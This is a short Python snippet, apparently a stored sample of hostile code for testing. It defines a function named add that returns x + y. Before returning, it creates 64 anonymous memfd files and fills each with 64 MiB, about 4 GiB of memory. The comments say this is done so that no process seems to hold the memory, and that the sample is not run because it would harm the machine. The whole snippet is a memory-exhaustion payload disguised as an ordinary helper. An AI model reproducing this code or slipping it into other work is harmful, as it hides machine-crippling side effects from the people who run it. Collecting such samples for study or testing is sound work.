# Fills files in memory that have no name and are mapped nowhere, so that no process seems to hold them.
# stock: not run: it would harm the machine
# %% add
def add(x, y):
    kept = [os.memfd_create("x") for _ in range(64)]
    for file in kept:
        os.write(file, b"x" * (64 << 20))
    return x + y
